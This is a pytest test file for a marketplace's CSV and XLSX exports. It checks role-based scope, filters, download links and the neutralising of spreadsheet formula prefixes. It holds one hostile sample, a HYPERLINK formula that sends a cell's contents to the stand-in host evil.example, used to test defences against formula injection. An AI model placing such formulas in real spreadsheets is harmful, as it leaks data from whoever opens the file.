"""Exports: CSV and XLSX of every list, with its filters and its scope; formula prefixes neutralised; the
decisions round trip exact."""

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from marketplace.exports import FORMULA_PREFIXES, neutralise, restore
from marketplace.services import approvals
from tests.conftest import World

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def _rows_csv(response: Any) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _rows_xlsx(response: Any) -> list[list[Any]]:
    wb = load_workbook(io.BytesIO(response.get_data()))
    return [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]


@pytest.mark.parametrize(
    "text", ["=1+1", "+31", "-2", "@SUM(A1)", "\t=x", "\r=x", "'=x", "''+x", "'", "'plain", "plain", ""]
)
def test_neutralise_is_reversed_exactly_by_restore(text: str) -> None:
    out = neutralise(text)
    assert out[:1] not in FORMULA_PREFIXES
    assert restore(out) == text


def test_every_export_opens_in_csv_and_xlsx_for_each_role(client: Any, login_as: Any, world: World) -> None:
    m = world.pledge(quantity=10)
    world.act(approvals.approve_match, actor=world.users["officer_a"], match_id=m.id)
    for who, datasets in {
        "company_a": ("contracts", "pledges", "placements", "reports", "decisions", "settlements"),
        "officer_a": ("contracts", "pledges", "placements", "reports", "decisions", "settlements"),
        "initiative_a": ("pledges",),
    }.items():
        login_as(world.users[who])
        for name in datasets:
            as_csv = client.get(f"/exports/{name}.csv")
            assert as_csv.status_code == 200, (who, name)
            assert as_csv.headers["Content-Disposition"].startswith("attachment;")
            as_xlsx = client.get(f"/exports/{name}.xlsx")
            assert as_xlsx.status_code == 200, (who, name)
            assert _rows_xlsx(as_xlsx)[0] == _rows_csv(as_csv)[0]  # the same columns
    login_as(world.users["company_a"])
    pledges = _rows_xlsx(client.get("/exports/pledges.xlsx"))
    header = pledges[0]
    row = dict(zip(header, pledges[1], strict=True))
    assert row["contract"] == "A-001" and row["status"] == "approved"
    assert float(row["value_eur"]) == 1000.0  # 10 hours x EUR 100, a number in the sheet


def test_filters_and_scope_apply(client: Any, login_as: Any, world: World) -> None:
    approved = world.pledge(quantity=10)
    world.act(approvals.approve_match, actor=world.users["officer_a"], match_id=approved.id)
    world.pledge(quantity=5)
    login_as(world.users["officer_a"])
    rows = _rows_csv(client.get("/exports/pledges.csv?status=approved"))
    assert [r[0] for r in rows[1:]] == [str(approved.id)]
    assert len(_rows_csv(client.get("/exports/pledges.csv"))) == 3
    contracts = [r[0] for r in _rows_csv(client.get("/exports/contracts.csv"))[1:]]
    assert sorted(contracts) == ["A-001", "A-SMALL"]  # not B-001 of the other government
    assert client.get(f"/exports/pledges.csv?contract={world.contract_b.id}").status_code == 404
    login_as(world.users["company_b"])
    assert _rows_csv(client.get("/exports/pledges.csv"))[1:] == []
    assert client.get(f"/exports/pledges.xlsx?contract={world.contract_a.id}").status_code == 404
    login_as(world.users["initiative_a"])
    assert client.get("/exports/contracts.csv").status_code == 404
    assert client.get("/exports/pledges.pdf").status_code == 404


def test_formula_cells_are_neutralised_in_csv_and_xlsx(client: Any, login_as: Any, world: World) -> None:
    m = world.pledge(quantity=10)
    world.act(approvals.approve_match, actor=world.users["officer_a"], match_id=m.id)
    contract = world.contract_a
    contract.title = HOSTILE
    world.session.add(contract)
    world.session.commit()
    login_as(world.users["officer_a"])
    rows = _rows_csv(client.get("/exports/contracts.csv"))
    titles = [r[1] for r in rows[1:]]
    assert "'" + HOSTILE in titles and HOSTILE not in titles
    sheet = _rows_xlsx(client.get("/exports/contracts.xlsx"))
    assert "'" + HOSTILE in [r[1] for r in sheet[1:]]
    wb = load_workbook(io.BytesIO(client.get("/exports/contracts.xlsx").get_data()))
    assert all(c.data_type != "f" for row in wb.worksheets[0].iter_rows() for c in row)


def test_list_pages_link_their_downloads_with_their_filters(client: Any, login_as: Any, world: World) -> None:
    login_as(world.users["officer_a"])
    html = client.get("/officer/matches?status=approved").get_data(as_text=True)
    assert 'href="/exports/pledges.csv?status=approved"' in html
    assert 'href="/exports/pledges.xlsx?status=approved"' in html
    html = client.get(f"/officer/contracts/{world.contract_a.id}").get_data(as_text=True)
    assert f'href="/exports/placements.csv?contract={world.contract_a.id}"' in html
    login_as(world.users["company_a"])
    assert 'href="/exports/contracts.xlsx"' in client.get("/company/").get_data(as_text=True)
